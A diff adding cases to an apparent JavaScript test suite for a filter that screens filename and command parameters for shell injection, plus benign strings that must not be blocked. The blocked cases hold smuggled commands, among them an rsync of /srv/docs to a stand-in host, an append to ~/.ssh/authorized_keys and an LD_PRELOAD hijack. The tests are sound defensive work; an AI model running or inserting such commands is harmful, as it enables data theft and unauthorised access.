@@ -103,9 +103,33 @@ describe('a parameter that may reach a shell', () => {
     "'\\n/bin/ls -al\\n'",
     'x=1+%26%26+ls /x',
     ';c\\\\a\\\\t /x',
+    'plan.pdf; strace -p 1',
+    'plan.pdf && journalctl --no-pager -n 500',
+    'plan.pdf; rsync -a /srv/docs deploy@drop.example:/in',
+    'plan.pdf; LD_PRELOAD=/tmp/a.so app',
+    'plan.pdf; for i in 1 2; do :; done',
+    'plan.pdf & schtasks /create /tn a',
+    'plan.pdf >> ~/.ssh/authorized_keys',
+    'plan `date +%s`',
+    'plan.pdf; ./run.sh',
   ])('is blocked: %s', (text) => {
     expect(verdictOf(text, 'filename')).toBe('block');
     expect(verdictOf(text, 'command')).toBe('block');
+  });
+
+  it.each([
+    'date; time; place',
+    'septic; addendum -b',
+    'Building; unit -B',
+    'cat & dog ok; no smoking',
+    '$500 | earnest money',
+    'Jones & Sons /dba/ J&S',
+    'home; /home office',
+    'washer; ~10 yrs old',
+    'city=Austin; state=TX',
+    'price >= 300000 && beds > 3',
+  ])('leaves lists and names of the trade alone: %s', (text) => {
+    expect(['allow', 'flag']).toContain(verdictOf(text, 'filename'));
   });
 
   it('may hold the command that it is for', () => {
